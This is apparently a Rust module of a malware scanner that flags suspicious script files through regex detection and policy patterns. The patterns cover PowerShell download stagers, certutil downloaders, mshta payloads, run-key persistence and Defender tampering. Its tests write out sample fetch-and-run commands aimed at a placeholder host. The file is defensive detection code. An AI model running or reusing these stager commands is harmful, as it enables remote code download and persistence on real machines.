//! Script-surface engine.
//!
//! Active only for known script extensions. The file bytes are handed to a
//! [`ScriptScanFacility`]: on hosts with a platform scan interface that is
//! the external facility; the built-in [`PatternScriptScanner`] covers the
//! rest with a regex table over common stager and obfuscation constructs.
//!
//! This is the one engine allowed to read file bytes during `scan`.

use std::sync::Arc;

use async_trait::async_trait;
use regex::bytes::Regex;
use tokio_util::sync::CancellationToken;

use vigil_core::{EngineResult, EngineVerdict, ScanContext};

use crate::engine::{names, Engine};

/// Extensions the engine treats as scripts.
const SCRIPT_EXTENSIONS: &[&str] = &[
    "ps1", "psm1", "psd1", "vbs", "vbe", "js", "jse", "wsf", "wsh", "bat", "cmd", "hta",
];

/// Files above this size are skipped rather than scanned.
const MAX_SCRIPT_BYTES: u64 = 5 * 1024 * 1024;

/// Outcome of a script-surface scan.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScriptScanOutcome {
    /// Nothing matched.
    NotDetected,
    /// Content matched a pattern the policy only blocks, not convicts.
    BlockedByPolicy,
    /// Content matched a malicious pattern.
    Detected,
}

/// Facility that inspects script content.
pub trait ScriptScanFacility: Send + Sync {
    /// Scans a buffer under the given display name.
    fn scan_buffer(&self, bytes: &[u8], name: &str) -> ScriptScanOutcome;
}

/// Built-in regex scanner for script threats.
///
/// Detection patterns convict outright; policy patterns mark content that
/// hosts commonly block (downloaders, bypass switches) without proof of
/// payload.
pub struct PatternScriptScanner {
    detect: Vec<(Regex, &'static str)>,
    block: Vec<(Regex, &'static str)>,
}

impl PatternScriptScanner {
    /// Compiles the built-in pattern tables.
    ///
    /// # Panics
    ///
    /// Panics if a built-in pattern fails to compile; the tables are
    /// constants, so that is a build defect rather than a runtime state.
    #[must_use]
    pub fn new() -> Self {
        let compile = |patterns: &[(&str, &'static str)]| {
            patterns
                .iter()
                .map(|(p, label)| {
                    (
                        Regex::new(&format!("(?i){p}")).expect("builtin script pattern"),
                        *label,
                    )
                })
                .collect()
        };

        Self {
            detect: compile(&[
                (
                    r"-encodedcommand\s+[a-z0-9+/=]{40,}",
                    "encoded powershell command",
                ),
                (
                    r"invoke-expression.{0,40}(downloadstring|downloaddata)",
                    "download-and-execute stager",
                ),
                (r"certutil(\.exe)?\s+-urlcache\s+-split", "certutil downloader"),
                (
                    r"createobject\(.{0,5}wscript\.shell.{0,5}\).{0,200}\.run",
                    "wscript shell runner",
                ),
                (r"mshta\s+(vbscript|javascript):", "mshta inline payload"),
                (
                    r"reg(\.exe)?\s+add\s+.{0,80}\\currentversion\\run",
                    "run-key persistence",
                ),
            ]),
            block: compile(&[
                (r"-nop\s+-w\s+hidden", "hidden-window powershell"),
                (r"set-mppreference\s+-disable", "defender tamper switch"),
                (r"bypass\s+-scope\s+process", "execution-policy bypass"),
                (r"frombase64string\(", "base64 payload decode"),
            ]),
        }
    }
}

impl Default for PatternScriptScanner {
    fn default() -> Self {
        Self::new()
    }
}

impl ScriptScanFacility for PatternScriptScanner {
    fn scan_buffer(&self, bytes: &[u8], _name: &str) -> ScriptScanOutcome {
        if self.detect.iter().any(|(re, _)| re.is_match(bytes)) {
            return ScriptScanOutcome::Detected;
        }
        if self.block.iter().any(|(re, _)| re.is_match(bytes)) {
            return ScriptScanOutcome::BlockedByPolicy;
        }
        ScriptScanOutcome::NotDetected
    }
}

/// Engine gating script files through the facility.
pub struct ScriptEngine {
    facility: Arc<dyn ScriptScanFacility>,
}

impl ScriptEngine {
    /// Creates the engine over the given facility.
    #[must_use]
    pub fn new(facility: Arc<dyn ScriptScanFacility>) -> Self {
        Self { facility }
    }

    /// Returns true if the extension is in the script set.
    #[must_use]
    pub fn handles_extension(extension: &str) -> bool {
        SCRIPT_EXTENSIONS.contains(&extension)
    }
}

impl Default for ScriptEngine {
    fn default() -> Self {
        Self::new(Arc::new(PatternScriptScanner::new()))
    }
}

#[async_trait]
impl Engine for ScriptEngine {
    fn name(&self) -> &'static str {
        names::SCRIPT
    }

    fn default_weight(&self) -> f64 {
        0.6
    }

    async fn scan(&self, ctx: &ScanContext, _cancel: &CancellationToken) -> EngineResult {
        if !Self::handles_extension(&ctx.extension) {
            return EngineResult::new(self.name(), 0, EngineVerdict::Unknown, 0.0)
                .with_reason("not a script file");
        }
        if ctx.file_size > MAX_SCRIPT_BYTES {
            return EngineResult::clean(self.name(), 0.5).with_reason("oversized script skipped");
        }

        let bytes = match std::fs::read(&ctx.path) {
            Ok(bytes) => bytes,
            Err(e) => return EngineResult::error(self.name(), e.to_string()),
        };
        let display_name = ctx
            .path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();

        match self.facility.scan_buffer(&bytes, &display_name) {
            ScriptScanOutcome::Detected => {
                EngineResult::new(self.name(), 90, EngineVerdict::Malicious, 0.85)
                    .with_reason("malicious script content detected")
            }
            ScriptScanOutcome::BlockedByPolicy => {
                EngineResult::new(self.name(), 60, EngineVerdict::Suspicious, 0.7)
                    .with_reason("script content blocked by policy")
            }
            ScriptScanOutcome::NotDetected => EngineResult::clean(self.name(), 0.6),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testutil::plain_context;
    use tempfile::TempDir;

    fn write_script(dir: &TempDir, name: &str, content: &str) -> ScanContext {
        let path = dir.path().join(name);
        std::fs::write(&path, content).unwrap();
        let mut ctx = plain_context(path.to_str().unwrap());
        ctx.file_size = content.len() as u64;
        ctx
    }

    #[tokio::test]
    async fn test_non_script_is_unknown() {
        let engine = ScriptEngine::default();
        let ctx = plain_context("/tmp/binary.exe");
        let result = engine.scan(&ctx, &CancellationToken::new()).await;
        assert_eq!(result.verdict, EngineVerdict::Unknown);
    }

    #[tokio::test]
    async fn test_oversized_script_skipped_clean() {
        let engine = ScriptEngine::default();
        let mut ctx = plain_context("/tmp/huge.ps1");
        ctx.file_size = MAX_SCRIPT_BYTES + 1;

        let result = engine.scan(&ctx, &CancellationToken::new()).await;
        assert_eq!(result.verdict, EngineVerdict::Clean);
        assert!(result.reasons[0].contains("oversized"));
    }

    #[tokio::test]
    async fn test_stager_detected() {
        let dir = TempDir::new().unwrap();
        let engine = ScriptEngine::default();
        let ctx = write_script(
            &dir,
            "stage.ps1",
            "IEX (New-Object Net.WebClient); Invoke-Expression $c.DownloadString('http://x/a')",
        );

        let result = engine.scan(&ctx, &CancellationToken::new()).await;
        assert_eq!(result.score, 90);
        assert_eq!(result.verdict, EngineVerdict::Malicious);
        assert!((result.confidence - 0.85).abs() < f64::EPSILON);
    }

    #[tokio::test]
    async fn test_policy_block_is_suspicious() {
        let dir = TempDir::new().unwrap();
        let engine = ScriptEngine::default();
        let ctx = write_script(
            &dir,
            "run.cmd",
            "powershell -nop -w hidden -c \"Start-Sleep 1\"",
        );

        let result = engine.scan(&ctx, &CancellationToken::new()).await;
        assert_eq!(result.score, 60);
        assert_eq!(result.verdict, EngineVerdict::Suspicious);
    }

    #[tokio::test]
    async fn test_benign_script_clean() {
        let dir = TempDir::new().unwrap();
        let engine = ScriptEngine::default();
        let ctx = write_script(&dir, "build.bat", "@echo off\r\necho building\r\n");

        let result = engine.scan(&ctx, &CancellationToken::new()).await;
        assert_eq!(result.verdict, EngineVerdict::Clean);
        assert_eq!(result.score, 0);
    }

    #[tokio::test]
    async fn test_unreadable_script_is_error_result() {
        let engine = ScriptEngine::default();
        let mut ctx = plain_context("/no/such/dir/gone.ps1");
        ctx.file_size = 10;

        let result = engine.scan(&ctx, &CancellationToken::new()).await;
        assert!(result.is_error());
        assert_eq!(result.verdict, EngineVerdict::Unknown);
    }

    #[test]
    fn test_pattern_scanner_outcomes() {
        let scanner = PatternScriptScanner::new();
        assert_eq!(
            scanner.scan_buffer(b"certutil -urlcache -split -f http://x/p.exe", "a"),
            ScriptScanOutcome::Detected
        );
        assert_eq!(
            scanner.scan_buffer(b"[Convert]::FromBase64String($blob)", "a"),
            ScriptScanOutcome::BlockedByPolicy
        );
        assert_eq!(
            scanner.scan_buffer(b"echo hello", "a"),
            ScriptScanOutcome::NotDetected
        );
    }
}
